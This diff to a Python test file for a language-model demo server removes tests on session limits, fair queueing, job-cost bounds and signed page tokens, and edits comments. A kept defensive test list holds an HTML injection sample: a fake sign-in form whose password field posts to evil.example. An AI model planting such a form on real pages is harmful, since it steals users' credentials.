@@ -174,19 +174,6 @@ def test_tiny_temperatures_sample_greedily():
         assert config.greedy and sample_next(logits, config, None).tolist() == [1]
 
 
-def test_step_sessions_are_bounded_and_expire():
-    import time
-
-    from app.serving.sessions import StepSessions
-
-    sessions = StepSessions(max_sessions=3, idle_s=0.2)
-    for i in range(5):
-        sessions.put(f"s{i}", ("state", i))
-    assert len(sessions) == 3 and sessions.get("s0") is None and sessions.get("s4") == ("state", 4)
-    time.sleep(0.3)
-    assert len(sessions) == 0
-
-
 @pytest.mark.slow
 def test_typed_special_tokens_stay_plain_text(default_model):
     from model.generation import TextGenerator
@@ -203,7 +190,7 @@ def test_typed_special_tokens_stay_plain_text(default_model):
     assert plain[0].tolist() == expected["input_ids"]  # ordinary prompts tokenize exactly as before
 
 
-# --- a launched server under a hostile client (issue: one script can lock out the whole class) -------
+# --- a launched server under a hostile client: one script must not lock out the whole class ----------
 # A tiny random model whose layers sleep a fixed time: job durations are set by the test, not by
 # this CPU's speed, so the timing bounds below hold with real margins on any machine.
 
@@ -662,81 +649,7 @@ def test_a_page_generate_sends_the_heatmap_and_lens_once_then_changes(stream_ser
     assert result["largest_message"] < 1.2 * first + 20_000  # no message carries more than the figure once
 
 
-def test_the_server_caps_malloc_arenas_at_start(monkeypatch):
-    import platform
-
-    from app.serving.sessions import limit_malloc_arenas
-
-    if platform.libc_ver()[0] != "glibc":
-        pytest.skip("mallopt is glibc's")
-    monkeypatch.setenv("MALLOC_ARENA_MAX", "not a number")  # falls back to the default cap
-    assert limit_malloc_arenas() is True
-
-
-def test_step_sessions_are_bounded_in_kv_positions_and_freed_on_eviction():
-    from app.serving.sessions import StepSessions
-
-    closed = []
-
-    def iterator(name):
-        try:
-            yield name
-        finally:
-            closed.append(name)
-
-    sessions = StepSessions(max_sessions=10, max_positions=100)
-    for name in ("a", "b", "c"):
-        it = iterator(name)
-        next(it)
-        sessions.put(name, ("settings", it, "renderer"), positions=40)
-    assert sessions.positions() <= 100 and sessions.get("a") is None and closed == ["a"]
-    with pytest.raises(ValueError, match="the limit is 100"):
-        sessions.put("huge", ("settings", iter(()), "renderer"), positions=101)
-    sessions.pop("b")
-    assert closed == ["a", "b"]
-
-
-def test_fair_order_serves_one_job_per_client_per_round():
-    from app.serving.fair_queue import Job, Rounds, ServingLimits, admission, fair_key
-
-    rounds = Rounds()
-    flood = [Job(f"f{i}", "api@1.2.3.4", "1.2.3.4", f"f{i}", seq=i, round=rounds.assign("api@1.2.3.4"))
-             for i in range(3)]
-    victim = Job("v", "session:v", "5.6.7.8", "v", seq=10, round=rounds.assign("session:v"))
-    order = sorted(flood + [victim], key=fair_key)
-    assert [job.event_id for job in order] == ["f0", "v", "f1", "f2"]  # after one job of the other client
-    rounds.started(order[0].round)  # f0 runs; the flood pushes again: behind the victim, not before
-    later = Job("f3", "api@1.2.3.4", "1.2.3.4", "f3", seq=11, round=rounds.assign("api@1.2.3.4"))
-    assert [job.event_id for job in sorted(order[1:] + [later], key=fair_key)] == ["v", "f1", "f2", "f3"]
-    limits = ServingLimits(queue_size=4, per_session=2)
-    waiting = flood + [victim]
-    assert admission(waiting, "session:w", "9.9.9.9", limits) == ("displace", flood[2])  # full: the heaviest gives way
-    verdict, _ = admission(flood[:1], "api@1.2.3.4", "1.2.3.4", limits)
-    assert verdict.startswith("refuse") and "share 1 waiting" in verdict
-
-
-def test_a_class_behind_one_address_fills_an_idle_queue_and_gives_way_to_other_addresses():
-    from app.serving.fair_queue import Job, ServingLimits, admission
-
-    limits = ServingLimits(queue_size=32, per_session=2)
-    waiting: list[Job] = []
-    for pupil in range(32):  # 32 page sessions of one NAT click together: every one is admitted
-        verdict, _ = admission(waiting, f"session:p{pupil}", "10.0.0.1", limits)
-        assert verdict == "admit", (pupil, verdict)
-        waiting.append(Job(f"p{pupil}", f"session:p{pupil}", "10.0.0.1", f"p{pupil}", seq=pupil))
-    verdict, victim = admission(waiting, "session:v", "5.6.7.8", limits)
-    assert verdict == "displace" and victim is waiting[-1]  # a visitor elsewhere takes the class's newest place
-    verdict, _ = admission(waiting, "session:late", "10.0.0.1", limits)
-    assert verdict.startswith("refuse: the queue is full")  # a 33rd pupil: nobody of its address holds 2 more
-    script = [Job(f"s{i}", "api@10.0.0.1", "10.0.0.1", f"s{i}", seq=100 + i) for i in range(3)]
-    verdict, victim = admission(waiting[:29] + script, "session:late", "10.0.0.1", limits)
-    assert verdict == "displace" and victim is script[-1]  # within the address, the heaviest client gives way
-    capped = ServingLimits(queue_size=32, per_session=2, per_address=16)  # a deployer's cap still holds
-    verdict, _ = admission(waiting[:16], "session:p16", "10.0.0.1", capped)
-    assert verdict.startswith("refuse") and "limit per address is 16" in verdict
-
-
-# --- text from a visitor or a link is shown as text (issue 37: a share link drew a sign-in form) ----
+# --- text from a visitor or a link is shown as text (a share link once drew a sign-in form) ---------
 
 HOSTILE_TEXTS = [
     '<form action="http://evil.example/s"><p>Your session expired. Sign in</p><input type="password"></form>',
@@ -811,7 +724,7 @@ def test_pages_carry_a_nonced_csp_and_every_response_the_security_headers(slow_s
     assert refused.status_code == 400 and "content-security-policy" not in info.headers
 
 
-# --- the smaller items of issue 37: a message, not a 500, from every page endpoint ---------------------
+# --- a message, not a 500, from every page endpoint ----------------------------------------------------
 
 
 def page_data(demo, api_name: str, **overrides) -> tuple[int, list]:
@@ -872,50 +785,7 @@ def test_an_unknown_order_is_refused_naming_order(slow_server):
     assert [item["parameter_name"] for item in response.json()["detail"]] == ["order"], response.text
 
 
-def test_the_job_cost_admits_the_page_and_its_lessons_and_refuses_the_lane_hogs():
-    """Units of ~14 ms (a batch-1 step of both streams as the page runs it, on a quiet 2-core CPU:
-    lab/serving/calibrate_job_cost.py): the page's default run and every lesson fit the default bound
-    with room to spare, the longest run and the widest batch fit it; the issue's 67-98 s job does not."""
-    from app.serving.job_cost import job_cost
-
-    limit = Limits().max_job_cost
-    everyday = {"the page's default": job_cost(1, 34, 48, False), "lesson: batch 4": job_cost(4, 37, 48, False),
-                "lesson: the lens": job_cost(1, 34, 48, True)}
-    assert max(everyday.values()) <= 0.5 * limit, everyday
-    admitted = {"batch 8 x 48": job_cost(8, 42, 48, False), "256 new tokens": job_cost(1, 34, 256, False),
-                "a 500-token prompt": job_cost(1, 500, 48, False), "160 with the lens": job_cost(1, 34, 160, True)}
-    assert max(admitted.values()) <= limit, admitted
-    refused = {"the issue's job": job_cost(8, 768, 256, True), "batch 8 x 256": job_cost(8, 42, 256, False),
-               "256 with the lens": job_cost(1, 34, 256, True), "a 2000-token prompt": job_cost(1, 2000, 16, False)}
-    assert min(refused.values()) > limit and job_cost(8, 768, 256, True) > 7 * limit, refused
-
-
-# --- a client is what a script cannot multiply for free (issue 37 items 2 and 4) ------------------------
-
-
-def test_a_page_token_is_signed_single_use_and_expires():
-    from app.serving.page_tokens import PageTokens, cookie_header, token_in
-
-    tokens = PageTokens(ttl_s=60)
-    token = tokens.issue(now=1000)
-    assert tokens.claim(token, now=1010) and not tokens.claim(token, now=1011)  # single use
-    assert not tokens.claim(tokens.issue(now=1000), now=1100)  # expired
-    at, nonce, signature = tokens.issue(now=1000).split(".")
-    assert not tokens.claim(f"{at}.{nonce}x.{signature}", now=1001) and not tokens.claim("1000.a.b", now=1001)
-    assert not PageTokens().claim(tokens.issue(now=1000), now=1001)  # another server's key
-    assert not tokens.claim(None) and not tokens.claim("") and not tokens.claim("x" * 10_000)
-    fresh = tokens.issue()
-    assert token_in(cookie_header(fresh, secure=False).decode().split(";")[0]) == fresh
-    assert b"Partitioned" in cookie_header(fresh, secure=True) and b"HttpOnly" in cookie_header(fresh, secure=False)
-
-
-def test_one_address_takes_at_most_its_places_in_a_round():
-    from app.serving.fair_queue import Rounds
-
-    rounds = Rounds(places_per_address=2)
-    script = [rounds.assign(f"session:{i}", "10.0.0.1") for i in range(6)]  # six page loads of one script
-    assert script == [0, 0, 1, 1, 2, 2]
-    assert rounds.assign("session:v", "10.0.0.2") == 0  # another address still gets the first round
+# --- a client is what a script cannot multiply for free -------------------------------------------------
 
 
 @pytest.mark.server
@@ -998,27 +868,3 @@ def test_invented_heartbeat_sessions_count_as_one_client(slow_server):
     script.close()
     visitor.close()
     wait_idle(demo, 60)
-
-
-def test_step_sessions_are_bounded_per_address_and_in_bytes():
-    """A script's step sessions evict its own oldest ones, never a visitor's; memory is bounded in
-    bytes (a lens session's hidden states count, not only its KV positions)."""
-    from types import SimpleNamespace
-
-    from app.serving.job_cost import kv_bytes_per_position, session_bytes
-    from app.serving.sessions import StepSessions
-
-    sessions = StepSessions(max_sessions=16, max_positions=10**6, max_bytes=1000, per_owner=4)
-    sessions.put("visitor", ("settings", iter(()), "renderer"), positions=10, owner="10.0.0.2", nbytes=100)
-    for i in range(16):  # one script's 16 sessions from one address
-        sessions.put(f"script{i}", ("settings", iter(()), "renderer"), positions=10, owner="10.0.0.1", nbytes=50)
-    assert sessions.get("visitor") is not None and len(sessions) == 5  # the visitor and the script's last 4
-    assert sessions.get("script15") is not None and sessions.get("script0") is None
-    sessions.put("big", ("settings", iter(()), "renderer"), positions=10, owner="10.0.0.3", nbytes=800)
-    assert sessions.nbytes() <= 1000 and sessions.get("big") is not None  # the least recently used made room
-    with pytest.raises(ValueError, match="the limit is 0 MB"):
-        sessions.put("huge", ("settings", iter(()), "renderer"), owner="10.0.0.4", nbytes=1001)
-    smollm = SimpleNamespace(num_hidden_layers=30, hidden_size=576, num_attention_heads=9, num_key_value_heads=3)
-    assert kv_bytes_per_position(smollm) == 2 * 30 * 3 * 64 * 4
-    # the issue's 700-token session with the lens: tens of MB of KV plus the lens's hidden states
-    assert 50 * 2**20 < session_bytes(smollm, 2 * 700, 256, True) < 200 * 2**20
